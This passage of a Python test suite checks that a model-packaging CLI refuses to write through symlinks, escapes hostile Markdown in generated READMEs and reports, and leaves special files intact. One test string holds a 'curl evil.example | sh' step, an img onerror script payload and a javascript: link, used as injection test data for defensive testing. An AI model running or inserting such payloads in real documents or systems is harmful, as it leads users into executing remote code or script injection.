    outside = tmp_path / "outside"
    outside.mkdir()
    linked = _bundle_copy(demo_bundle, tmp_path, "linked-report")
    shutil.rmtree(linked / "report")
    (linked / "report").symlink_to(outside)
    completed = run_cli("compare", str(linked), "--max-samples", "2", "--no-alone", cwd=tmp_path, timeout=120)
    assert completed.returncode == 2, completed.stderr
    assert completed.stderr.strip() == (f"error: {linked / 'report'}: is a link or not a folder; refusing to write "
                                        "compare.json through it (results stay inside the bundle), remove it")
    assert list(outside.iterdir()) == []

    victim = tmp_path / "bashrc"
    victim.write_text("user's own file\n")
    bundle = _bundle_copy(demo_bundle, tmp_path, "linked-files")
    for name in ("compare.json", "report.md", "report.html"):
        (bundle / "report" / name).unlink(missing_ok=True)
        (bundle / "report" / name).symlink_to(victim)
    completed = run_cli("compare", str(bundle), "--max-samples", "2", "--no-alone", cwd=tmp_path, timeout=300)
    assert completed.returncode == 0, completed.stderr
    assert victim.read_text() == "user's own file\n"
    for name in ("compare.json", "report.md", "report.html"):
        assert not (bundle / "report" / name).is_symlink() and (bundle / "report" / name).stat().st_size > 0
    assert json.loads((bundle / "report" / "compare.json").read_text())["tensors"]


MARKDOWN_BREAKOUT = "`\n\n## Run this first\n\n```sh\ncurl evil.example | sh\n```\n<img src=x onerror=alert(1)>[docs](javascript:alert(1))"


def test_markdown_files_keep_hostile_names_inside_their_code_spans(tmp_path):
    """A tensor name or profile description that closes its code span and starts a heading and a
    ```sh block would put a fake first step into the bundle README and report.md."""
    from edgepipe.templating import md_code, md_text

    model, calib = hostile_model(tmp_path, MARKDOWN_BREAKOUT)
    profile = hostile_profile(tmp_path, "arm-cpu", MARKDOWN_BREAKOUT)
    completed = run_cli("build", "--model", str(model), "--calib", str(calib), "--target", str(profile),
                        "--out", str(tmp_path / "out"), cwd=tmp_path)
    assert completed.returncode == 0, completed.stderr
    for document in (tmp_path / "out" / "README.md", tmp_path / "out" / "report" / "report.md"):
        lines = document.read_text().splitlines()
        assert not [line for line in lines if line.startswith("## Run this first") or line.startswith("curl")]
        assert sum(line.startswith("```") for line in lines) % 2 == 0
    readme = (tmp_path / "out" / "README.md").read_text()
    assert md_code("in" + MARKDOWN_BREAKOUT) in readme and md_text("arm-cpu" + MARKDOWN_BREAKOUT) in readme
    assert "\\<img src=x onerror=alert(1)\\>\\[docs\\](javascript:alert(1))" in readme  # literal text, no link


def test_markdown_templates_insert_values_only_through_markdown_filters():
    """Every `{{ ... }}` in a Markdown template is `| md_code` or `| md_text` (the device notes of a
    target plugin are the plugin's own Markdown)."""
    import re

    root = Path(__file__).resolve().parents[1] / "templates"
    offenders = []
    for path in sorted(root.rglob("*.md.j2")):
        for expression in re.findall(r"{{-?(.*?)-?}}", path.read_text(), flags=re.S):
            expression = expression.strip()
            if not expression.endswith(("| md_code", "| md_text")) and expression != "target.device_readme":
                offenders.append(f"{path.relative_to(root)}: {{{{ {expression} }}}}")
    assert offenders == []


def test_replacing_writes_keep_a_users_special_file_and_refuse_one_in_a_bundle(tmp_path):
    """`compare --out /dev/null` as root must not rename a file over the device: a special file the
    user named is written into (here a FIFO with a reader), one inside a bundle's report/ refused."""
    import stat
    import threading

    from edgepipe.safeio import write_text_replacing

    fifo = tmp_path / "out.fifo"
    os.mkfifo(fifo)
    received = []
    reader = threading.Thread(target=lambda: received.append(fifo.read_text()))
    reader.start()
    write_text_replacing(fifo, "compare data\n")
    reader.join(timeout=30)
    assert received == ["compare data\n"] and stat.S_ISFIFO(os.lstat(fifo).st_mode)

    bundle = tmp_path / "bundle"
    (bundle / "report").mkdir(parents=True)
    os.mkfifo(bundle / "report" / "compare.json")
    with pytest.raises(UserError, match=r"compare\.json: is a folder, device or FIFO; refusing to replace it"):
        write_text_replacing(bundle / "report" / "compare.json", "x", inside=bundle)
    assert stat.S_ISFIFO(os.lstat(bundle / "report" / "compare.json").st_mode)
